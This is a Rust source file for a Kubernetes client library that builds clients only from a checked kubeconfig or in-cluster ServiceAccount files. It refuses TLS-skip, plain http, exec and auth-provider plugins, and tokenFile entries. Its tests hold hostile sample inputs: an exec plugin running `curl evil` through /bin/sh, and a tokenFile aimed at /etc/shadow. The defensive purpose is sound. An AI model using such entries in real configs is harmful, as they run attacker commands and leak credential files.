//! Kubernetes clients for scanfleet's own identities (intake's pod
//! directory, the worker's admin identity), built only from an explicit
//! kubeconfig or the in-cluster ServiceAccount.
//!
//! A kubeconfig is untrusted input. This crate refuses, with the cluster or
//! user it found at fault:
//! - `insecure-skip-tls-verify: true` (the scan credentials would travel to
//!   whoever answers);
//! - servers that are not `https://`;
//! - `exec` and `auth-provider` users (they run arbitrary commands);
//! - `tokenFile` users (the file's content would be sent to the server the
//!   kubeconfig names, an exfiltration path).
//!
//! TLS is rustls with the ring provider, which speaks only TLS 1.2 and 1.3,
//! so nothing older can be negotiated. `Config::infer` is never used: its
//! environment-driven fallbacks are exactly what an operator cannot audit.

use std::path::Path;

use kube::config::{Config, KubeConfigOptions, Kubeconfig};
use zeroize::Zeroizing;

pub mod api_throttle;

pub use api_throttle::{ApiThrottle, ThrottleConfig, ThrottleConfigError, ThrottleStats};

/// Where Kubernetes mounts a pod's ServiceAccount token, CA and namespace.
pub const SERVICE_ACCOUNT_DIR: &str = "/var/run/secrets/kubernetes.io/serviceaccount";

const IN_CLUSTER: &str = "in-cluster ServiceAccount";

/// The largest kubeconfig accepted; real ones are a few kilobytes.
pub const MAX_KUBECONFIG_BYTES: u64 = 1024 * 1024;

/// Why no client was built.
#[derive(Debug, thiserror::Error)]
pub enum KubeAccessError {
    /// The file could not be read.
    #[error("{path}: {reason}")]
    Read {
        /// The kubeconfig path.
        path: String,
        /// The IO error.
        reason: String,
    },
    /// Not a kubeconfig.
    #[error("{source_name}: not a valid kubeconfig: {reason}")]
    Parse {
        /// Where it came from.
        source_name: String,
        /// The parser's explanation.
        reason: String,
    },
    /// A setting scanfleet refuses.
    #[error("{source_name}: refused: {what}: {reason}")]
    Refused {
        /// Where it came from.
        source_name: String,
        /// Which cluster or user.
        what: String,
        /// Why.
        reason: &'static str,
    },
    /// The client could not be configured (missing context, bad CA…).
    #[error("{source_name}: {reason}")]
    Config {
        /// Where it came from.
        source_name: String,
        /// The explanation.
        reason: String,
    },
}

/// Checks every cluster and user entry against the rules above.
///
/// # Errors
/// [`KubeAccessError::Refused`] naming the first offending entry.
pub fn check_kubeconfig(kubeconfig: &Kubeconfig, source_name: &str) -> Result<(), KubeAccessError> {
    let refuse = |what: String, reason: &'static str| KubeAccessError::Refused {
        source_name: source_name.to_owned(),
        what,
        reason,
    };
    for named in &kubeconfig.clusters {
        let Some(cluster) = &named.cluster else {
            continue;
        };
        let what = format!("cluster {:?}", named.name);
        if cluster.insecure_skip_tls_verify == Some(true) {
            return Err(refuse(
                what,
                "insecure-skip-tls-verify disables server authentication",
            ));
        }
        match &cluster.server {
            Some(server) if server.starts_with("https://") => {}
            Some(_) => return Err(refuse(what, "the server must be an https:// URL")),
            None => return Err(refuse(what, "no server URL")),
        }
    }
    for named in &kubeconfig.auth_infos {
        let Some(user) = &named.auth_info else {
            continue;
        };
        let what = format!("user {:?}", named.name);
        if user.exec.is_some() {
            return Err(refuse(
                what,
                "exec credential plugins run arbitrary commands",
            ));
        }
        if user.auth_provider.is_some() {
            return Err(refuse(what, "auth-provider plugins are not supported"));
        }
        if user.token_file.is_some() {
            return Err(refuse(
                what,
                "tokenFile would send a local file to the server; inline the token",
            ));
        }
    }
    Ok(())
}

/// A cluster as scanfleet's own identity reaches it: the client plus what a
/// per-scan kubeconfig needs (the server and the CA that pins it).
#[derive(Clone)]
pub struct ClusterAccess {
    /// The client with the identity's credentials.
    pub client: kube::Client,
    /// The API server URL.
    pub server: String,
    /// Base64 PEM of the CA that must sign the server certificate, when the
    /// kubeconfig pins one (otherwise the system roots apply).
    pub ca_data: Option<String>,
    /// The cluster's one rate limit, shared by every client built from this
    /// access (the per-scan identities' included).
    pub throttle: ApiThrottle,
}

impl std::fmt::Debug for ClusterAccess {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ClusterAccess")
            .field("server", &self.server)
            .field("throttle", &self.throttle)
            .finish_non_exhaustive()
    }
}

impl ClusterAccess {
    /// Reads a kubeconfig file, refusing what `check_kubeconfig` refuses.
    ///
    /// # Errors
    /// [`KubeAccessError`] naming the problem.
    pub async fn from_kubeconfig_file(path: &Path) -> Result<Self, KubeAccessError> {
        let source_name = path.display().to_string();
        let text = read_kubeconfig(path)?;
        Self::from_kubeconfig(&text, &source_name).await
    }

    /// Same, from text.
    ///
    /// # Errors
    /// [`KubeAccessError`] naming the problem.
    pub async fn from_kubeconfig(text: &str, source_name: &str) -> Result<Self, KubeAccessError> {
        let throttle =
            ApiThrottle::new(ThrottleConfig::default()).map_err(|e| KubeAccessError::Config {
                source_name: source_name.to_owned(),
                reason: e.to_string(),
            })?;
        Self::from_kubeconfig_throttled(text, source_name, throttle).await
    }

    /// Same, with the cluster's throttle.
    ///
    /// # Errors
    /// [`KubeAccessError`] naming the problem.
    pub async fn from_kubeconfig_throttled(
        text: &str,
        source_name: &str,
        throttle: ApiThrottle,
    ) -> Result<Self, KubeAccessError> {
        let kubeconfig = Kubeconfig::from_yaml(text).map_err(|e| KubeAccessError::Parse {
            source_name: source_name.to_owned(),
            reason: e.to_string(),
        })?;
        let current = kubeconfig.current_context.clone().unwrap_or_default();
        let cluster_name = kubeconfig
            .contexts
            .iter()
            .find(|c| c.name == current)
            .and_then(|c| c.context.as_ref())
            .map(|c| c.cluster.clone())
            .ok_or_else(|| KubeAccessError::Config {
                source_name: source_name.to_owned(),
                reason: format!("current context {current:?} is not defined"),
            })?;
        let cluster = kubeconfig
            .clusters
            .iter()
            .find(|c| c.name == cluster_name)
            .and_then(|c| c.cluster.clone())
            .ok_or_else(|| KubeAccessError::Config {
                source_name: source_name.to_owned(),
                reason: format!("cluster {cluster_name:?} is not defined"),
            })?;
        let client = throttled_client(text, source_name, Some(&throttle)).await?;
        Ok(Self {
            client,
            server: cluster.server.unwrap_or_default(),
            ca_data: cluster.certificate_authority_data,
            throttle,
        })
    }

    /// The pod's own ServiceAccount (in-cluster), with the cluster's
    /// throttle: the API server from `KUBERNETES_SERVICE_HOST`/`_PORT`, the
    /// token and CA from [`SERVICE_ACCOUNT_DIR`]. Nothing else is consulted.
    ///
    /// # Errors
    /// [`KubeAccessError`] naming what is missing when not running in a
    /// cluster.
    pub async fn in_cluster(throttle: ApiThrottle) -> Result<Self, KubeAccessError> {
        let host =
            std::env::var("KUBERNETES_SERVICE_HOST").map_err(|_| KubeAccessError::Config {
                source_name: IN_CLUSTER.to_owned(),
                reason: "KUBERNETES_SERVICE_HOST is not set (not running in a pod?)".into(),
            })?;
        let port = std::env::var("KUBERNETES_SERVICE_PORT").unwrap_or_else(|_| "443".into());
        Self::from_service_account_dir(Path::new(SERVICE_ACCOUNT_DIR), &host, &port, throttle).await
    }

    /// A ServiceAccount's projected volume (`token`, `ca.crt`, optional
    /// `namespace`) in `dir`, for the API server at `host:port`.
    ///
    /// The token is referenced by path, not copied: kubelet rotates
    /// projected tokens (hourly by default) and a worker outlives many of
    /// them, so kube re-reads the file about once a minute. That is the one
    /// place a token file is accepted: the path is fixed by the platform,
    /// not named by untrusted input.
    ///
    /// # Errors
    /// [`KubeAccessError`] naming the file or setting at fault.
    pub async fn from_service_account_dir(
        dir: &Path,
        host: &str,
        port: &str,
        throttle: ApiThrottle,
    ) -> Result<Self, KubeAccessError> {
        use base64::Engine as _;
        use kube::config::{AuthInfo, Cluster, Context, NamedAuthInfo, NamedCluster, NamedContext};
        let config_error = |reason: String| KubeAccessError::Config {
            source_name: IN_CLUSTER.to_owned(),
            reason,
        };
        if host.is_empty() || port.parse::<u16>().is_err() {
            return Err(config_error(format!(
                "API server address {host:?}:{port:?} is not a host and port"
            )));
        }
        let token_path = dir.join("token");
        let token = Zeroizing::new(
            std::fs::read_to_string(&token_path)
                .map_err(|e| config_error(format!("{}: {e}", token_path.display())))?,
        );
        if token.trim().is_empty() {
            return Err(config_error(format!(
                "{}: empty token",
                token_path.display()
            )));
        }
        let ca_path = dir.join("ca.crt");
        let ca = std::fs::read(&ca_path)
            .map_err(|e| config_error(format!("{}: {e}", ca_path.display())))?;
        let namespace = std::fs::read_to_string(dir.join("namespace"))
            .map(|n| n.trim().to_owned())
            .unwrap_or_else(|_| "default".into());
        let host = if host.contains(':') {
            format!("[{host}]")
        } else {
            host.to_owned()
        };
        let server = format!("https://{host}:{port}");
        let ca_data = base64::engine::general_purpose::STANDARD.encode(&ca);
        let kubeconfig = Kubeconfig {
            clusters: vec![NamedCluster {
                name: "in-cluster".into(),
                cluster: Some(Cluster {
                    server: Some(server.clone()),
                    certificate_authority_data: Some(ca_data.clone()),
                    ..Default::default()
                }),
                other: Default::default(),
            }],
            auth_infos: vec![NamedAuthInfo {
                name: "service-account".into(),
                auth_info: Some(AuthInfo {
                    token_file: Some(token_path.display().to_string()),
                    ..Default::default()
                }),
                other: Default::default(),
            }],
            contexts: vec![NamedContext {
                name: "in-cluster".into(),
                context: Some(Context {
                    cluster: "in-cluster".into(),
                    user: Some("service-account".into()),
                    namespace: Some(namespace),
                    ..Default::default()
                }),
                other: Default::default(),
            }],
            current_context: Some("in-cluster".into()),
            ..Default::default()
        };
        let config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
            .await
            .map_err(|e| config_error(e.to_string()))?;
        Ok(Self {
            client: client_from_config(config, IN_CLUSTER, Some(&throttle))?,
            server,
            ca_data: Some(ca_data),
            throttle,
        })
    }

    /// A client authenticating with `token` against the same server, CA and
    /// throttle. The kubeconfig it is built from lives only in memory.
    ///
    /// # Errors
    /// [`KubeAccessError`] when the client cannot be built.
    pub async fn client_for_token(
        &self,
        user: &str,
        token: &str,
        namespace: &str,
    ) -> Result<kube::Client, KubeAccessError> {
        let kubeconfig = self.kubeconfig_for_token(user, token, namespace);
        throttled_client(&kubeconfig, "per-scan identity", Some(&self.throttle)).await
    }

    /// A kubeconfig for `token` against the same server and CA, for a
    /// per-scan identity. Held in memory only; zeroized on drop.
    pub fn kubeconfig_for_token(
        &self,
        user: &str,
        token: &str,
        namespace: &str,
    ) -> Zeroizing<String> {
        let ca = self
            .ca_data
            .as_ref()
            .map(|d| format!("    certificate-authority-data: {d}\n"))
            .unwrap_or_default();
        Zeroizing::new(format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: scan\n\
             clusters:\n- name: target\n  cluster:\n    server: {server}\n{ca}\
             users:\n- name: {user}\n  user:\n    token: {token}\n\
             contexts:\n- name: scan\n  context:\n    cluster: target\n    user: {user}\n    namespace: {namespace}\n",
            server = self.server,
        ))
    }
}

fn read_kubeconfig(path: &Path) -> Result<Zeroizing<String>, KubeAccessError> {
    let source_name = path.display().to_string();
    let read_error = |reason: String| KubeAccessError::Read {
        path: source_name.clone(),
        reason,
    };
    let meta = std::fs::metadata(path).map_err(|e| read_error(e.to_string()))?;
    if meta.len() > MAX_KUBECONFIG_BYTES {
        return Err(read_error(format!(
            "{} bytes is over the {MAX_KUBECONFIG_BYTES}-byte limit",
            meta.len()
        )));
    }
    Ok(Zeroizing::new(
        std::fs::read_to_string(path).map_err(|e| read_error(e.to_string()))?,
    ))
}

/// Builds a client from kubeconfig text (for example held only in memory).
///
/// # Errors
/// [`KubeAccessError`] naming what is wrong and where.
pub async fn client_from_kubeconfig(
    text: &str,
    source_name: &str,
) -> Result<kube::Client, KubeAccessError> {
    throttled_client(text, source_name, None).await
}

async fn throttled_client(
    text: &str,
    source_name: &str,
    throttle: Option<&ApiThrottle>,
) -> Result<kube::Client, KubeAccessError> {
    let kubeconfig = Kubeconfig::from_yaml(text).map_err(|e| KubeAccessError::Parse {
        source_name: source_name.to_owned(),
        reason: e.to_string(),
    })?;
    check_kubeconfig(&kubeconfig, source_name)?;
    let config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
        .await
        .map_err(|e| KubeAccessError::Config {
            source_name: source_name.to_owned(),
            reason: e.to_string(),
        })?;
    client_from_config(config, source_name, throttle)
}

/// Builds a client from a kubeconfig file.
///
/// # Errors
/// [`KubeAccessError`] naming what is wrong and where.
pub async fn client_from_kubeconfig_file(path: &Path) -> Result<kube::Client, KubeAccessError> {
    let text = read_kubeconfig(path)?;
    client_from_kubeconfig(&text, &path.display().to_string()).await
}

fn client_from_config(
    mut config: Config,
    source_name: &str,
    throttle: Option<&ApiThrottle>,
) -> Result<kube::Client, KubeAccessError> {
    if throttle.is_some() {
        // kube's own retry layer sits *inside* ours: it would resend 429s and
        // 503s up to 15 times past the limiter, uncounted and unbounded by
        // ThrottleConfig. The throttle owns retries.
        config.default_retry = false;
    }
    if config.accept_invalid_certs || config.cluster_url.scheme_str() != Some("https") {
        return Err(KubeAccessError::Refused {
            source_name: source_name.to_owned(),
            what: "client configuration".into(),
            reason: "TLS verification must be on and the server https://",
        });
    }
    let builder =
        kube::client::ClientBuilder::try_from(config).map_err(|e| KubeAccessError::Config {
            source_name: source_name.to_owned(),
            reason: e.to_string(),
        })?;
    Ok(match throttle {
        Some(t) => builder.with_layer(t).build(),
        None => builder.build(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    async fn refusal(text: &str) -> KubeAccessError {
        match client_from_kubeconfig(text, "kc").await {
            Ok(_) => panic!("accepted:\n{text}"),
            Err(e) => e,
        }
    }

    fn kubeconfig(cluster: &str, user: &str) -> String {
        format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\n\
             clusters:\n- name: sim\n  cluster:\n{cluster}\n\
             users:\n- name: admin\n  user:\n{user}\n\
             contexts:\n- name: c\n  context: {{cluster: sim, user: admin}}\n"
        )
    }

    const CA: &str = "    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUJkekNDQVIyZ0F3SUJBZ0lVUHVVdG1VbUlLUlNXWDR4dnRKRlhHc3ZIcmNFd0NnWUlLb1pJemowRUF3SXcKRURFT01Bd0dBMVVFQXd3RmMzUmhkR1V3SGhjTk1qUXdNVEF4TURBd01EQXdXaGNOTXpRd01UQXhNREF3TURBdwpXakFRTVE0d0RBWURWUVFEREFWemRHRjBaVEJaTUJNR0J5cUdTTTQ5QWdFR0NDcUdTTTQ5QXdFSEEwSUFCTkpSCi0tLS0tRU5EIENFUlRJRklDQVRFLS0tLS0K";

    #[tokio::test]
    async fn insecure_skip_tls_verify_is_refused_by_name() {
        let text = kubeconfig(
            "    server: https://127.0.0.1:6443\n    insecure-skip-tls-verify: true",
            "    token: abc",
        );
        let err = refusal(&text).await;
        assert!(
            err.to_string()
                .contains("refused: cluster \"sim\": insecure-skip-tls-verify"),
            "{err}"
        );
    }

    #[tokio::test]
    async fn plain_http_servers_are_refused() {
        let text = kubeconfig("    server: http://127.0.0.1:8080", "    token: abc");
        let err = refusal(&text).await;
        assert!(err.to_string().contains("must be an https:// URL"), "{err}");
    }

    #[tokio::test]
    async fn exec_plugins_and_token_files_are_refused() {
        let text = kubeconfig(
            &format!("    server: https://127.0.0.1:6443\n{CA}"),
            "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil']",
        );
        let err = refusal(&text).await;
        assert!(
            err.to_string()
                .contains("user \"admin\": exec credential plugins"),
            "{err}"
        );
        let text = kubeconfig(
            &format!("    server: https://127.0.0.1:6443\n{CA}"),
            "    tokenFile: /etc/shadow",
        );
        let err = refusal(&text).await;
        assert!(err.to_string().contains("tokenFile"), "{err}");
    }

    #[tokio::test]
    async fn garbage_and_missing_files_are_named() {
        let err = refusal("{not yaml").await;
        assert!(
            err.to_string().starts_with("kc: not a valid kubeconfig"),
            "{err}"
        );
        let Err(err) = client_from_kubeconfig_file(Path::new("/nonexistent/kubeconfig")).await
        else {
            panic!("a missing file was accepted");
        };
        assert!(
            err.to_string().starts_with("/nonexistent/kubeconfig:"),
            "{err}"
        );
    }
}
